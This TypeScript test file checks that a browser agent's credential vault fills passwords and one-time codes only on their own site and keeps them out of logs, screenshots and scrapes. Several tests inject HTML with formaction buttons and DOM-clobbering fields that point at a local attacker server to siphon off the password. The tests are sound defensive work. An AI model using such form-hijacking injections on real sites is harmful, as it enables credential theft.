import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, describe, test } from "node:test";
import { ObserveRequest, ScrapeRequest } from "../../src/contract/page.ts";
import type { Session } from "../../src/sessions/session.ts";
import { type LiveSession, openLiveSession } from "../live-session.ts";
import { placeholders, secretsOf } from "../secrets-source.ts";
import type { HostileSite } from "../sites/hostile-site.ts";

const password = `tr0ub4dor &"<3`;
const otherPassword = "correct-horse-battery";
const email = "ada@lovelace.example";
const code = "314159";

let live: LiveSession;
let stage: HostileSite;
let session: Session;
let secrets: ReturnType<typeof secretsOf>;
let held: Disposable;

before(async () => {
  live = await openLiveSession();
  ({ stage, session } = live);
  secrets = secretsOf([
    { origin: stage.site.url, email, password, code },
    {
      origin: "https://other.example",
      email: "ada@other.example",
      password: otherPassword,
      code: "271828",
    },
  ]);
});
after(() => live?.[Symbol.asyncDispose]());
beforeEach(() => {
  stage.forget();
  held = session.identity.secrets.add(secrets);
});
afterEach(() => held[Symbol.dispose]());

type Body = Record<string, unknown>;
const execute = (action: Body) => live.execute(action);
const succeed = async (action: Body) => {
  const done = await execute(action);
  assert.equal(done.success, true, done.message);
  return done;
};
const fail = async (action: Body) => {
  const done = await execute(action);
  assert.equal(done.success, false, done.message);
  assert.equal(done.exception, done.message);
  return done.message;
};
const open = async (page: string) => {
  await succeed({ type: "goto", url: "about:blank" });
  await succeed({ type: "goto", url: page.startsWith("http") ? page : `${stage.site.url}${page}` });
};
const fill = (name: string, value: string, more: Body = {}) => ({
  type: "fill",
  selector: `[name=${name}]`,
  value,
  ...more,
});
const evaluate = async (js: string) =>
  (await succeed({ type: "evaluate_js", code: js })).data?.markdown;
const isHeld = (name: string, value: string) =>
  evaluate(`document.querySelector("[name=${name}]").value === ${JSON.stringify(value)}`);

/** Nothing that is told or kept holds a value. */
function assertClean(told: unknown): void {
  const text = typeof told === "string" ? told : JSON.stringify(told);
  for (const secret of [password, JSON.stringify(password).slice(1, -1), otherPassword, code])
    assert.equal(text.includes(secret), false, `${secret} in ${text}`);
}

describe("on the credential's own site", () => {
  test("placeholders are replaced, the server gets the values, and nobody else", async () => {
    await open("/login");
    const done = [
      await succeed(fill("email", placeholders.email)),
      await succeed(fill("password", placeholders.password)),
      await succeed({ ...fill("code", placeholders.code), type: "multi_factor_fill" }),
    ];
    assertClean(done);
    assert.equal(done[1]!.action["value"], placeholders.password);
    await succeed({ type: "click", selector: "button" });
    const sent = new URLSearchParams(stage.site.received.at(-1)?.split(" ")[2]);
    assert.deepEqual(
      [sent.get("email"), sent.get("password"), sent.get("code")],
      [email, password, code],
    );
    const kept = await live.sessions.keptSteps(session);
    assertClean(kept);
    assert.ok(
      kept.includes(placeholders.password),
      "the placeholder is kept, for code is made of the steps",
    );
  });

  test("by keys, and where a field takes nothing but keys", async () => {
    await open("/login");
    await succeed({ ...fill("password", placeholders.password), type: "fallback_fill" });
    assert.equal(await isHeld("password", password), "true");
    await open("/login?keys");
    await succeed(fill("password", placeholders.password));
    assert.equal(await isHeld("password", password), "true");
  });

  test("form_fill replaces them as well", async () => {
    await open("/login");
    const done = await succeed({
      type: "form_fill",
      value: {
        email: placeholders.email,
        password: placeholders.password,
        totp: placeholders.code,
      },
    });
    assertClean(done);
    assert.equal(await isHeld("email", email), "true");
    assert.equal(await isHeld("password", password), "true");
    assert.equal(await isHeld("code", code), "true");
  });

  test("a page that shows the value shows a placeholder to everybody but its reader", async () => {
    await open("/login?echo");
    await succeed(fill("password", placeholders.password));
    const seen = await session.observe(ObserveRequest.parse({}));
    assertClean(seen);
    assert.match(seen.space.description, /You typed mycoolpassword/);
    assert.notEqual(seen.screenshot.raw, "", "the picture shows it covered");
    assert.ok((await session.screenshot("png", "raw")).length > 0);
    const scraped = await session.scrape(ScrapeRequest.parse({ only_main_content: false }));
    assertClean(scraped);
    assert.match(scraped.markdown, /mycoolpassword/);
    assertClean(await succeed({ type: "scrape", only_main_content: false }));
    assertClean(await evaluate("document.querySelector('[name=password]').value"));
    assertClean(await evaluate("({ [document.querySelector('[name=password]').value]: 1 })"));
    assert.match(
      await fail({ type: "evaluate_js", code: "throw new Error(echo.textContent)" }),
      /mycool/,
    );
    assertClean(await live.sessions.keptSteps(session));
  });

  test("a page without a secret keeps its picture", async () => {
    await open("/login");
    await succeed(fill("email", placeholders.email));
    const seen = await session.observe(ObserveRequest.parse({}));
    assert.notEqual(seen.screenshot.raw, "");
    assert.equal(seen.space.description.includes(email), false);
    assert.ok((await session.screenshot("png", "raw")).length > 0);
  });
});

describe("anywhere else", () => {
  test("another site gets nothing, by placeholder or by value", async () => {
    await open(`${stage.attacker.url}/login`);
    for (const value of [placeholders.password, password, otherPassword]) {
      const why = await fail(fill("password", value));
      assert.match(why, /no credential for http:\/\/localhost/);
      assertClean(why);
    }
    assert.match(await fail({ ...fill("note", password), type: "fallback_fill" }), /no credential/);
    assert.match(await fail(fill("note", `my password is ${password}`)), /among other words/);
    const form = await fail({ type: "form_fill", value: { password: placeholders.password } });
    assert.match(form, /no credential/);
    assert.equal(await isHeld("password", ""), "true");
    assert.equal(await isHeld("note", ""), "true");
  });

  test("a frame of another site within the own site gets nothing", async () => {
    await open("/login-framed");
    const seen = await session.observe(ObserveRequest.parse({}));
    const id = /(I\d+)\[:\]<input[^>]*type="password"/.exec(seen.space.description)?.[1];
    assert.ok(id, seen.space.description);
    assert.match(
      await fail({ type: "fill", id, value: placeholders.password }),
      /no credential for http:\/\/localhost/,
    );
    assert.match(
      await fail({ type: "form_fill", value: { password: placeholders.password } }),
      /no credential/,
    );
  });

  test("a password goes into no text field, not even one that was a password field a moment ago", async () => {
    await open("/login");
    assert.match(await fail(fill("note", placeholders.password)), /password fields only/);
    await open("/login?switch");
    assert.match(await fail(fill("password", placeholders.password)), /changed the field/);
    assert.equal(await isHeld("password", ""), "true");
  });

  test("a form that sends to another site gets nothing", async () => {
    await open("/login-posts-elsewhere");
    assert.match(
      await fail(fill("password", placeholders.password)),
      /sends what is filled in to localhost/,
    );
    await succeed({ type: "click", selector: "button" });
    assertClean(stage.attacker.received);
  });

  test("nor does one that could, by a picture that submits it or behind fields that hide its own", async () => {
    for (const extra of [
      `<input type="image" formaction="${stage.attacker.url}/x">`,
      `<select name="elements"></select><button formaction="${stage.attacker.url}/x">Go</button>`,
      `<input name="getAttribute"><button formaction="${stage.attacker.url}/x">Go</button>`,
    ]) {
      await open("/login");
      const html = JSON.stringify(extra);
      const code = `document.forms[0].insertAdjacentHTML("beforeend", ${html})`;
      await succeed({ type: "evaluate_js", code });
      const why = await fail(fill("password", placeholders.password));
      assert.match(why, /sends what is filled in to localhost/, extra);
    }
    await open("/login");
    const code = `document.body.insertAdjacentHTML("beforeend", '<form><button formaction="${stage.attacker.url}/x">Subscribe</button></form>')`;
    await succeed({ type: "evaluate_js", code });
    await succeed(fill("password", placeholders.password));
  });

  test("what is no placeholder is filled as it is, and placeholders are refused once the secrets are gone", async () => {
    await open("/login");
    await succeed(fill("note", "hello"));
    assert.equal(await isHeld("note", "hello"), "true");
    held[Symbol.dispose]();
    assert.match(await fail(fill("password", placeholders.password)), /there is no vault/);
    assert.equal(await isHeld("password", ""), "true");
  });
});
